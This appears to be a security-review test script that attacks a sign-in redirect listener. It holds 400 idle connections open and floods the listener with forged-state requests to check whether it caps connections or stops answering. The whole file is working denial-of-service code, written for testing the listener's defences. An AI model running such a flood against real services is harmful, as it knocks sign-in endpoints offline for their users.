"""Security review A.5 and attack report 4.2: a user without rights floods the listener of a sign-in.

Findings: A.5, M4

    flood_redirect_listener.py REDIRECT_URI

Holds 400 silent connections to the listener, and sends requests without the flow's state for three
seconds. The attack succeeds where the listener holds more than 64 connections, or leaves one waiting.
"""

import select
import socket
import sys
import threading
import time
import urllib.parse

from attack import refused, succeeded

MOST = 64
SILENT = 400


def hold(address, count):
    held = []
    for _ in range(count):
        held.append(socket.create_connection(address, timeout=5))
    return held


def still_open(held, seconds):
    """How many of the connections the listener keeps, once it had so many seconds to close them."""
    end = time.monotonic() + seconds
    while True:
        poller = select.poll()
        for each in held:
            poller.register(each, select.POLLIN | select.POLLRDHUP)
        closed = len(poller.poll(100))
        if len(held) - closed <= MOST or time.monotonic() > end:
            return len(held) - closed


def hit(address, path, until, waits, worst):
    request = f"GET {path}?state=x HTTP/1.1\r\nHost: {address[0]}:{address[1]}\r\n\r\n".encode()
    while time.monotonic() < until:
        begun = time.monotonic()
        try:
            with socket.create_connection(address, timeout=5) as connection:
                connection.sendall(request)
                if connection.recv(4096):
                    waits.append(time.monotonic() - begun)
        except TimeoutError:
            worst.append("a request was not answered within 5 s")
            return
        except OSError:
            pass


def main(redirect_uri):
    parts = urllib.parse.urlsplit(redirect_uri)
    address = (parts.hostname, parts.port)
    held = hold(address, SILENT)
    kept = still_open(held, 5)
    if kept > MOST:
        succeeded(f"the listener holds {kept} silent connections")
    waits, worst = [], []
    until = time.monotonic() + 3
    threads = [threading.Thread(target=hit, args=(address, parts.path, until, waits, worst))
               for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if worst:
        succeeded(worst[0])
    if not waits:
        succeeded("no request was answered")
    refused(f"{kept} of {SILENT} silent connections are held; {len(waits)} requests were answered")


if __name__ == "__main__":
    main(sys.argv[1])
